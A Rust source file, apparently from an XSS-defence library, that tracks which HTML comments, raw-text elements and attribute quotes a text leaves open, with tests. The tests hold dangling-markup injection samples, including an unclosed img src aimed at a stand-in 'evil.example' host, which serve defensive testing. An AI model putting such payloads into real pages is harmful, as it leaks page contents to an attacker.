//! What a long text leaves open at its end, followed byte by byte as a browser does (HTML, section 13.2.5): a comment, an element
//! that takes what stands behind it, an attribute's quote.

use crate::xss::{HIDING, RAW_TEXT};

/// So much of a tag's name is looked at: more than any of [`HIDING`] has.
const NAME: usize = 16;

#[derive(Debug, Default)]
pub(crate) struct Open {
    state: State,
    name: Vec<u8>,
    closes: bool,
    /// How often each of [`HIDING`] has begun and not ended.
    hiding: [u32; HIDING.len()],
}

#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
enum State {
    #[default]
    Text,
    /// Behind `<`, `<!`, `<!-`: so many bytes; behind `</`: the most.
    Opened(usize),
    Name,
    /// Between attributes, or in the name of one.
    Attributes {
        named: bool,
    },
    Equals,
    Unquoted,
    Quoted(u8),
    /// `<!x`, `<?`, `</ `: a comment to the first `>`, whatever stands in it (13.2.5.41).
    Bogus,
    /// Behind `<!--`, and behind `<!---`: a `>` closes both.
    CommentBegins,
    CommentBeginsDashed,
    /// With the dashes that stand last, and whether `!` stands behind two of them.
    Comment {
        dashes: usize,
        bang: bool,
    },
    /// In an element in which no other begins: which of [`HIDING`], and how much of its `</name` stands last.
    Raw {
        element: usize,
        ended: usize,
    },
}

impl Open {
    pub fn push(&mut self, bytes: &[u8]) {
        for byte in bytes {
            self.state = self.after(*byte);
        }
    }

    /// As short a text as leaves the same open.
    pub fn what(&self) -> Option<Vec<u8>> {
        let hiding = HIDING.iter().zip(self.hiding).find(|(_, begun)| *begun > 0);
        match (self.state, hiding) {
            (State::CommentBegins | State::CommentBeginsDashed | State::Comment { .. }, _) => {
                Some(b"<!--".to_vec())
            }
            (State::Quoted(quote), _) => Some([b"<a x=".as_slice(), &[quote]].concat()),
            (_, Some((name, _))) => Some([b"<", name.as_bytes(), b">"].concat()),
            _ => None,
        }
    }

    fn after(&mut self, byte: u8) -> State {
        let is_space = byte.is_ascii_whitespace();
        match self.state {
            State::Text if byte == b'<' => State::Opened(1),
            State::Text => State::Text,
            State::Opened(length) => self.opened(length, byte),
            State::Bogus if byte == b'>' => State::Text,
            State::Bogus => State::Bogus,
            State::Name if byte == b'>' => self.tag_ended(),
            State::Name if is_space || byte == b'/' => State::Attributes { named: false },
            State::Name => {
                if self.name.len() < NAME {
                    self.name.push(byte.to_ascii_lowercase());
                }
                State::Name
            }
            State::Attributes { .. } if byte == b'>' => self.tag_ended(),
            State::Attributes { named: true } if byte == b'=' => State::Equals,
            State::Attributes { .. } if byte == b'/' => State::Attributes { named: false },
            State::Attributes { named } => State::Attributes { named: named || !is_space },
            State::Equals | State::Unquoted if byte == b'>' => self.tag_ended(),
            State::Equals if is_space => State::Equals,
            State::Equals if matches!(byte, b'"' | b'\'') => State::Quoted(byte),
            State::Unquoted if is_space => State::Attributes { named: false },
            State::Equals | State::Unquoted => State::Unquoted,
            State::Quoted(quote) if byte == quote => State::Attributes { named: false },
            State::Quoted(quote) => State::Quoted(quote),
            State::CommentBegins | State::CommentBeginsDashed if byte == b'>' => State::Text,
            State::CommentBegins if byte == b'-' => State::CommentBeginsDashed,
            State::CommentBeginsDashed if byte == b'-' => State::Comment { dashes: 2, bang: false },
            State::CommentBegins | State::CommentBeginsDashed => State::Comment { dashes: 0, bang: false },
            State::Comment { dashes, bang } => match byte {
                b'>' if dashes >= 2 => State::Text,
                b'!' if dashes >= 2 && !bang => State::Comment { dashes, bang: true },
                b'-' => State::Comment { dashes: if bang { 1 } else { dashes + 1 }, bang: false },
                _ => State::Comment { dashes: 0, bang: false },
            },
            State::Raw { element, ended } => self.raw(element, ended, byte),
        }
    }

    fn opened(&mut self, length: usize, byte: u8) -> State {
        match (length, byte) {
            (1, b'<') => State::Opened(1),
            (1, b'!') => State::Opened(2),
            (2, b'-') => State::Opened(3),
            (3, b'-') => State::CommentBegins,
            (1, b'/') => State::Opened(usize::MAX),
            (1 | usize::MAX, letter) if letter.is_ascii_alphabetic() => {
                self.closes = length == usize::MAX;
                self.name.clear();
                self.name.push(letter.to_ascii_lowercase());
                State::Name
            }
            (1, b'?') => State::Bogus,
            (1, _) | (_, b'>') => State::Text,
            _ => State::Bogus,
        }
    }

    fn tag_ended(&mut self) -> State {
        let Some(element) = HIDING.iter().position(|known| known.as_bytes() == self.name) else {
            return State::Text;
        };
        let Some(begun) = self.hiding.get_mut(element) else { return State::Text };
        if self.closes {
            *begun = begun.saturating_sub(1);
            return State::Text;
        }
        *begun = begun.saturating_add(1);
        match RAW_TEXT.contains(&HIDING.get(element).copied().unwrap_or_default()) {
            true => State::Raw { element, ended: 0 },
            false => State::Text,
        }
    }

    fn raw(&mut self, element: usize, ended: usize, byte: u8) -> State {
        let name = HIDING.get(element).map_or(b"".as_slice(), |name| name.as_bytes());
        let awaited = match ended {
            0 => Some(b'<'),
            1 => Some(b'/'),
            _ => name.get(ended - 2).copied(),
        };
        if awaited.is_none() && (byte.is_ascii_whitespace() || matches!(byte, b'/' | b'>')) {
            self.closes = true;
            self.name.clear();
            if let Some(begun) = self.hiding.get_mut(element) {
                *begun = begun.saturating_sub(1);
            }
            return if byte == b'>' { State::Text } else { State::Attributes { named: false } };
        }
        let ended =
            if Some(byte.to_ascii_lowercase()) == awaited { ended + 1 } else { usize::from(byte == b'<') };
        State::Raw { element, ended }
    }
}

#[cfg(test)]
mod tests {
    use super::Open;

    fn left_open(text: &str, size: usize) -> Option<String> {
        let mut open = Open::default();
        text.as_bytes().chunks(size).for_each(|piece| open.push(piece));
        open.what().map(|what| String::from_utf8(what).unwrap())
    }

    #[test]
    fn what_is_open_is_what_a_browser_leaves_open() {
        for size in [1, 7, 1_000] {
            for (text, what) in [
                ("a <!-- b", "<!--"),
                ("a <!-- b -- > --", "<!--"),
                ("a <!-- b --!x>", "<!--"),
                ("a <!-- b -!>", "<!--"),
                ("a <!--!>", "<!--"),
                // A comment to its first `>`, in which no tag begins.
                ("hi <!x <a x='><!-- '>", "<!--"),
                ("<!DOCTYPE <a x='><!-- '>", "<!--"),
                ("<!-x <a x='><!-- '>", "<!--"),
                ("</ x <a x='><select '>", "<select>"),
                ("<?x <a x='><textarea '>", "<textarea>"),
                ("<!<a x='><!-- '>", "<!--"),
                ("<!><!-- a", "<!--"),
                ("</><!-- a", "<!--"),
                ("a <!---!>", "<!--"),
                ("a <!-- b --!!>", "<!--"),
                ("<textarea></textareas>", "<textarea>"),
                ("<TextArea>a</textare>", "<textarea>"),
                ("<textarea title='a'><!-- -->", "<textarea>"),
                ("<select><option>a</option>", "<select>"),
                ("<select><template></template>", "<select>"),
                ("<template><template></template>", "<template>"),
                ("<template><!--</template>-->", "<template>"),
                ("<select><option title=\"</select>\">", "<select>"),
                ("a <img src='//evil.example/?", "<a x='"),
                ("a <img/src = \"//evil.example/?'>", "<a x=\""),
                ("<select><img src='//evil.example/?</select>", "<a x='"),
                ("<textarea></textarea x='>", "<a x='"),
                ("a < b <b title='", "<a x='"),
                ("<a =x='", "<a x='"),
            ] {
                assert_eq!(left_open(text, size).as_deref(), Some(what), "{size}: {text}");
            }
            for text in [
                "it's 5 < 6 and \"so on",
                "a <b>c</b> <br/> <img src='a' alt=it's>",
                "<!--> a",
                "<!---> a",
                "<!-- a --> b",
                "<!-- a --!> b",
                "<!-- a ----> b",
                "<!----!> a",
                "<!x 'a",
                "<textarea>it's <a x='</TEXTAREA> b",
                "<select><option>a</select>",
                "</p x='y'> </ x='",
                "<!x 'a> b",
                "<?php <a x=' ?> b",
                "</ <!-- > b",
                "x <y and it's z",
            ] {
                assert_eq!(left_open(text, size), None, "{size}: {text}");
            }
        }
    }
}
